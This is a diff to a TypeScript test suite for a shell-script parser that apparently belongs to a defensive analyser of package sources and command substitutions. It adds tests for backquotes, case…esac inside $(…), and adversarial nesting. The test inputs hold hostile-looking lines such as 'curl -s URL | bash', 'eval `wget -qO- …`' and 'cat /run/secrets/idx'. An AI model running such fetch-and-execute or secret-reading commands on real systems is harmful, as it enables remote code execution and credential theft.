@@ -51,8 +51,62 @@ describe('readShell', () => {
     for (const script of ['pip install -i $(cat /run/secrets/idx) helpers', 'pip install -i "$(cat /run/secrets/idx)" helpers']) {
       expect(packageSourceFactsOf({ command: ['sh', '-c', script] }).unverifiable).toEqual(['-i $(cat /run/secrets/idx): the output of a command']);
     }
-    // Backquotes stay as written.
-    expect(words('V=`curl -s https://x.example/v`; echo $V')).toEqual([['V=`curl', '-s', 'https://x.example/v`'], ['echo', '$V']]);
+    // Backquoted, the index is named whole too (unquoted it was cut at its blank: `-i \`cat`).
+    for (const script of ['pip install -i `cat /run/secrets/idx` helpers', 'pip install -i "`cat /run/secrets/idx`" helpers']) {
+      expect(packageSourceFactsOf({ command: ['sh', '-c', script] }).unverifiable).toEqual(['-i `cat /run/secrets/idx`: the output of a command']);
+    }
+    // Backquotes are a command substitution too (they were words split at their blanks, their command unread).
+    expect(words('V=`curl -s https://x.example/v`; echo $V')).toEqual([['V=`curl -s https://x.example/v`'], ['curl', '-s', 'https://x.example/v'], ['echo', '$V']]);
+  });
+
+  it('reads a backquoted command as $(…) is read: assigned, inside double quotes, evaluated; an escaped backquote is a character', () => {
+    expect(readShell('X=`curl -s https://x.example/v` && eval `wget -qO- https://x.example/e`')).toEqual([
+      { words: ['X=`curl -s https://x.example/v`'], op: '&&', depth: 0 },
+      { words: ['curl', '-s', 'https://x.example/v'], depth: 1 },
+      { words: ['eval', '`wget -qO- https://x.example/e`'], depth: 0 },
+      { words: ['wget', '-qO-', 'https://x.example/e'], depth: 1 },
+    ]);
+    // In double quotes the quotes resume after it; a ')' or ';' inside it is its own.
+    expect(readShell('bash -c "`curl https://x.example/i.sh | tr -d \')\'`; x" y')).toEqual([
+      { words: ['bash', '-c', "`curl https://x.example/i.sh | tr -d ')'`; x", 'y'], depth: 0 },
+      { words: ['curl', 'https://x.example/i.sh'], op: '|', depth: 1 },
+      { words: ['tr', '-d', ')'], depth: 1 },
+    ]);
+    // `$(…)` inside backquotes and backquotes inside `$(…)`; an escaped backquote (the old nesting) is text of the outer one.
+    expect(words('a `b $(c) d` $(e `f`)')).toEqual([['a', '`b $(c) d`', '$(e `f`)'], ['b', '$(c)', 'd'], ['c'], ['e', '`f`'], ['f']]);
+    expect(words('echo "`echo \\`id\\``"')).toEqual([['echo', '`echo \\`id\\``'], ['echo', '`id`']]);
+    expect(words('echo \\`id\\` x')).toEqual([['echo', '`id`', 'x']]);
+    // Unclosed, it runs to the end of the script.
+    expect(readShell('x `curl -s URL | bash')).toEqual([
+      { words: ['x', '`curl -s URL | bash'], depth: 0 },
+      { words: ['curl', '-s', 'URL'], op: '|', depth: 1 },
+      { words: ['bash'], depth: 1 },
+    ]);
+  });
+
+  it('follows case … esac: a pattern\'s ) inside $(…) does not close the substitution', () => {
+    const s = 'v=$(case "$1" in a) echo a;; (b|c) curl -s https://x.example/b | sh;; *) echo z;; esac) && next';
+    expect(readShell(s)).toEqual([
+      { words: ['v=$(case "$1" in a) echo a;; (b|c) curl -s https://x.example/b | sh;; *) echo z;; esac)'], op: '&&', depth: 0 },
+      { words: ['case', '$1', 'in', 'a'], op: ')', depth: 1 },
+      { words: ['echo', 'a'], op: ';;', depth: 1 },
+      { words: ['b'], op: '|', depth: 1 },
+      { words: ['c'], op: ')', depth: 1 },
+      { words: ['curl', '-s', 'https://x.example/b'], op: '|', depth: 1 },
+      { words: ['sh'], op: ';;', depth: 1 },
+      { words: ['*'], op: ')', depth: 1 },
+      { words: ['echo', 'z'], op: ';;', depth: 1 },
+      { words: ['esac'], depth: 1 },
+      { words: ['next'], depth: 0 },
+    ]);
+    // Nested cases, `in` on the next line, `esac` then more commands; the substitution's own ) closes it after esac.
+    expect(words('x=$(case a\nin a) case b in b) y;; esac;; esac; z) w')).toEqual([
+      ['x=$(case a\nin a) case b in b) y;; esac;; esac; z)', 'w'], ['case', 'a'], ['in', 'a'], ['case', 'b', 'in', 'b'], ['y'], ['esac'], ['esac'], ['z'],
+    ]);
+    // In backquotes, and at the top (where a pattern's ) closed nothing but still ends the pattern).
+    expect(words('`case $x in a) curl u;; esac` ok')).toEqual([['`case $x in a) curl u;; esac`', 'ok'], ['case', '$x', 'in', 'a'], ['curl', 'u'], ['esac']]);
+    // A `case` word that is an argument opens nothing: `)` closes the substitution.
+    expect(words('$(echo case x in a) b')).toEqual([['$(echo case x in a)', 'b'], ['echo', 'case', 'x', 'in', 'a']]);
   });
 
   it('reads a here-document body as commands (a `sudo -i <<EOF` body is a script run as such)', () => {
@@ -74,17 +128,27 @@ describe('readShell', () => {
   it('reads adversarial 64 KiB scripts in one pass: deep nesting kept as text past 16 levels, every quote unbalanced', () => {
     const n = 16 * 1024;
     const deep = `${'$('.repeat(n)}curl x${')'.repeat(n)}`;
-    let start = performance.now();
-    const read = readShell(deep);
-    expect(performance.now() - start).toBeLessThan(2000);
+    // Bounded work, counted (not timed: the machine may be loaded): each character read once, a substitution's text
+    // copied once into the word holding it, at most 16 levels deep.
+    const bound = (s: string) => 18 * s.length + 16;
+    let work = { steps: 0 };
+    const read = readShell(deep, work);
+    expect(work.steps).toBeLessThanOrEqual(bound(deep));
     expect(read[0]).toEqual({ words: [deep], depth: 0 });
     expect(Math.max(...read.map((c) => c.depth))).toBe(16);
-    // Deep and unclosed, in and out of double quotes.
-    for (const s of ['$("'.repeat(n), `"${'$( "'.repeat(n)}`, `<(${'('.repeat(n)}`, "'\"".repeat(n), '\\'.repeat(4 * n + 1), '$(('.repeat(n), ')'.repeat(4 * n)]) {
-      start = performance.now();
-      const r = readShell(s);
-      expect(performance.now() - start).toBeLessThan(2000);
-      expect(r.length).toBeLessThanOrEqual(4 * n);
+    // Deep and unclosed, in and out of double quotes; backquotes unbalanced, mixed with $( and quotes; case heads
+    // never closed, patterns in and out of substitutions.
+    const adversarial = [
+      '$("'.repeat(n), `"${'$( "'.repeat(n)}`, `<(${'('.repeat(n)}`, "'\"".repeat(n), '\\'.repeat(4 * n + 1), '$(('.repeat(n), ')'.repeat(4 * n),
+      '`'.repeat(4 * n + 1), '`$("'.repeat(n), '"`\''.repeat(n), '$(case x in '.repeat(n / 2), 'case x in a) '.repeat(n / 4), '$(case x in a) ;; '.repeat(n / 4),
+      `${'`case x in ('.repeat(n / 4)}${')'.repeat(n)}`, 'esac) '.repeat(n), `${'a<'.repeat(n)}${'&'.repeat(2 * n)}`, `x${'#`'.repeat(n)}`,
+    ];
+    for (const s of adversarial) {
+      expect(s.length).toBeGreaterThanOrEqual(n);
+      work = { steps: 0 };
+      const r = readShell(s, work);
+      expect(work.steps).toBeLessThanOrEqual(bound(s));
+      expect(r.length).toBeLessThanOrEqual(s.length);
       for (const c of r) expect(c.depth).toBeLessThanOrEqual(16);
     }
   });
